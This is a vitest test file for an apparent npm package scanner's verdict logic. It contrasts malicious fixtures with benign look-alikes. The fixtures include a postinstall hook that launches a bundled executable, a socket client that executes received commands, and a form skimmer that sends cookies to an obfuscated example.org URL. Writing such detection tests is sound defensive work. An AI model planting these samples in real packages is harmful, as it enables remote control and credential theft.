// The assessment of whole releases built in memory: droppers, remote shells and skimmers are judged malicious; the benign look-alikes (a binary's version check at install, a socket client, a login form) are not.
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../../test/corpora.js';
import type { ScanFinding } from '../../core/contracts/pkgscan.js';
import { assessAnalysis, MEDIUM_CLUSTER_LINES } from './assessment.js';
import { runAnalyzers } from './risk.js';
import { releaseOf } from './release.fixture.js';

const ctx = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };

async function verdictOf(files: Record<string, string>, scripts: Record<string, string> = {}): Promise<string> {
  const name = 'vitrine-fixture-widgets';
  const release = releaseOf('npm', { 'package.json': JSON.stringify({ name, version: '1.0.0', scripts }, null, 2), ...files }, { name, scripts });
  const r = await runAnalyzers(release, ctx);
  return assessAnalysis({ findings: r.findings, chains: r.chains, risk: r.risk, complete: true }).verdict;
}

describe('assessment of whole releases', () => {
  it('a postinstall that starts a Windows executable shipped in the package, detached, is malicious', async () => {
    const index = "const { spawn } = require('child_process');\nconst { join } = require('path');\nspawn(join(__dirname, 'Setup.Installer.exe'), { detached: true, stdio: 'ignore' }).unref();\n";
    expect(await verdictOf({ 'index.js': index }, { postinstall: 'node .' })).toBe('malicious');
  });

  it('a socket client that runs the commands it receives is malicious', async () => {
    const index = "const io = require('socket.io-client');\nconst { exec } = require('child_process');\nconst socket = io('http://example.org');\nsocket.on('exec', function (command, cb) {\n  exec(command, (e, out) => cb(out));\n});\n";
    expect(await verdictOf({ 'src/index.js': index })).toBe('malicious');
  });

  it('a form skimmer whose collector URL is written in hex escapes is malicious', async () => {
    const url = [...'https://example.org/c.php?d='].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    const code = `var _u = ["${url}"];\nfunction go(form) {\n  if (['password', 'cvc'].includes(form.elements[0].type)) form.addEventListener('submit', function () {\n    this.action = _u[0] + btoa(document.cookie);\n  });\n}\n`;
    expect(await verdictOf({ 'dist/widget.js': code, 'index.js': "module.exports = require('./dist/widget.js');", 'lib/util.js': 'module.exports = {};' })).toBe('malicious');
  });

  it('benign look-alikes stay clean: a version check of an installed binary, a socket client, a login form', async () => {
    const install = "const { execFileSync } = require('child_process');\nconst bin = require.resolve('@scope/tool-win32-x64/tool.exe');\nconsole.log(execFileSync(bin, ['--version']).toString());\n";
    expect(await verdictOf({ 'install.js': install }, { postinstall: 'node install.js' })).not.toBe('malicious');
    const client = "const io = require('socket.io-client');\nconst socket = io('http://example.org');\nsocket.on('message', (msg) => { console.log(msg); });\n";
    expect(await verdictOf({ 'index.js': client })).toBe('clean');
    const form = "document.querySelector('form').addEventListener('submit', (e) => { if (e.target.password.value === '') e.preventDefault(); });\n";
    expect(await verdictOf({ 'index.js': form })).toBe('clean');
  });

  it('medium findings are suspicious only together in one piece of code, not scattered over a tool\'s modules', () => {
    const m = (code: string, category: ScanFinding['category'], file: string, line: number): ScanFinding => ({ code, severity: 'medium', category, title: code, file, line, match: null, technique: null, analyzer: 'source-rules' });
    // a monorepo publisher: reads .npmrc, uses the registry token and publishes, in modules far apart (no flow joins them)
    const scattered = [m('uses_registry_token', 'propagation', 'dist/chunk.js', 5604), m('reads_credential_files', 'exfiltration', 'dist/chunk.js', 5827), m('publishes_packages', 'propagation', 'dist/chunk.js', 6441), m('serialises_environment', 'exfiltration', 'dist/daemon.js', 371)];
    expect(assessAnalysis({ findings: scattered, chains: [], risk: { score: 0.7 }, complete: true }).verdict).toBe('clean');
    // the same three behaviours within a few statements of one file
    const together = [m('reads_credential_files', 'exfiltration', 'index.js', 3), m('uses_registry_token', 'propagation', 'index.js', 5), m('publishes_packages', 'propagation', 'index.js', 3 + MEDIUM_CLUSTER_LINES)];
    expect(assessAnalysis({ findings: together, chains: [], risk: { score: 0.58 }, complete: true }).verdict).toBe('suspicious');
  });
});
